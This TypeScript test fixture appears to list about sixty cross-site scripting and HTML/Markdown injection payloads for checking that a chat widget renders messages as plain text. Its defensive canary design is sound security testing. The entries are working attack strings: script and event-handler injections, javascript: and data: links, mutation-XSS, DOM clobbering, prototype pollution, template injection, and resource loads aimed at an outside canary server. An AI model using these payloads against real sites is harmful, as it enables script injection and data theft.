/** The function on the page's `window` that the payloads would call. */
export const ALARM = 'hacked'

const RTL = '\u202e'
const ZERO = '\u200b'

/**
 * Texts that would run a script, load something or lead somewhere in a chat that renders
 * any of them as more than text.
 * @param canary the address of a server that must receive nothing
 */
export const payloadsTo = (canary: string): string[] => [
  // Scripts and what runs them.
  '<script>hacked(1)</script>',
  '</script><script>hacked(2)</script>',
  `<script src="${canary}/3.js"></script>`,
  '<scr<script>ipt>hacked(4)</scr</script>ipt>',
  '<SCRIPT\n>hacked(5)//',
  '<img src=x onerror=hacked(6)>',
  '<img/src="x"/onerror=hacked(7)//',
  `"><img src=${canary}/8 onerror="hacked(8)">`,
  "'-hacked(9)-'",
  '<svg onload=hacked(10)>',
  '<svg><animate onbegin=hacked(11) attributeName=x dur=1s>',
  '<svg><script href="data:,hacked(12)"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hacked(13)/>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked(14)&gt;">',
  '<body onload=hacked(15)>',
  '<details open ontoggle=hacked(16)>x</details>',
  '<input autofocus onfocus=hacked(17)>',
  '<video><source onerror=hacked(18)></video>',
  '<marquee onstart=hacked(19)>x</marquee>',
  '<iframe srcdoc="<script>parent.hacked(20)</script>"></iframe>',
  '<iframe src="javascript:parent.hacked(21)"></iframe>',
  '<object data="javascript:hacked(22)"></object><embed src="javascript:hacked(22)">',
  '<form action="javascript:hacked(23)"><button autofocus>go</button></form>',
  '<a href="javascript:hacked(24)">x</a>',
  '<div style="background:url(javascript:hacked(25))">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=hacked(26)>">',
  '<template><script>hacked(27)</script></template><img src=x onerror="hacked(27)',
  '<!--><img src=x onerror=hacked(28)>-->',
  '&lt;img src=x onerror=hacked(29)&gt; &#60;script&#62;hacked(29)&#60;/script&#62;',
  `<meta http-equiv="refresh" content="0;url=${canary}/30"><base href="${canary}/">`,
  // Links of Markdown.
  '[x](javascript:hacked(31))',
  '[x](JaVaScRiPt:hacked(32)) [x]( javascript:hacked(32)) [x](\tjavascript:hacked(32))',
  '[x](java\nscript:hacked(33)) [x](java&#115;cript:hacked(33)) [x](javascript&colon;hacked(33))',
  '[x](data:text/html,<script>hacked(34)</script>) [x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoMzQpPC9zY3JpcHQ+)',
  '[x](vbscript:hacked(35)) [x](blob:https://x.example/1) [x](file:///etc/passwd) [x](filesystem:x)',
  '[x](https://x.example/"onmouseover="hacked(36)) [x](https://x.example/ "onclick=hacked(36)")',
  '[x](https://x.example/<script>hacked(37)</script>)',
  '[<img src=x onerror=hacked(38)>](https://x.example/)',
  '[x](mailto:a@x.example"onclick="hacked(39)) [x](mailto:javascript:hacked(39))',
  '<javascript:hacked(40)> <https://x.example/"onclick=hacked(40)>',
  '[x][1]\n\n[1]: javascript:hacked(41)',
  'https://x.example/"onmouseover=hacked(42) https://x.example/\'><svg/onload=hacked(42)>',
  `[x](//${new URL(canary).host}/43) [x](/43) [x](?43) [x](#hacked)`,
  `[${ZERO}x](java${ZERO}script:hacked(44)) [x](https:javascript:hacked(44)) [x](https://javascript:hacked@x.example)`,
  `[x](https://x.example/${RTL}gpj.exe) ${RTL})54(dekcah:tpircsavaj(]x[`,
  // Elements that load something without a script.
  `![x](${canary}/46.png) ![x](javascript:hacked(46))`,
  `<img src="${canary}/47.png"><img srcset="${canary}/47 1x">`,
  `<link rel=stylesheet href="${canary}/48.css"><link rel=prefetch href="${canary}/48"><link rel=dns-prefetch href="${canary}">`,
  `<style>@import "${canary}/49"; * { background: url(${canary}/49) } @font-face { font-family: x; src: url(${canary}/49) }</style>`,
  `<p style="background-image:url(${canary}/50)">x</p><audio src="${canary}/50"><video poster="${canary}/50">`,
  `<iframe src="${canary}/51"></iframe><object data="${canary}/51"></object>`,
  `\`\`\`"><img src="${canary}/52" onerror=hacked(52)>\n</code></pre><img src=${canary}/52>`,
  // Names with a meaning elsewhere.
  '<form id=Parley name=Parley><input name=open id=attributes></form>',
  '<img name=currentScript><img id=body name=createElement><a id=location href="javascript:hacked(54)">',
  '__proto__ constructor prototype toString hasOwnProperty __defineGetter__',
  '{"__proto__":{"hacked":1},"constructor":{"prototype":{"hacked":1}}}',
  `\${hacked(57)} {{constructor.constructor("hacked(57)")()}} #{hacked(57)} <%= hacked(57) %>`,
  '<parley-widget data-instance-id=default onfocus=hacked(58)><slot onslotchange=hacked(58)></slot>',
  `${RTL}<script>hacked(59)</script>\u2066\u2067\u2069\ufeff${ZERO}\u0085\u2028hacked(59)\u2029`,
  '*'.repeat(40) +
    '_'.repeat(40) +
    '`'.repeat(40) +
    '['.repeat(40) +
    '<'.repeat(40) +
    '](javascript:hacked(60))',
]
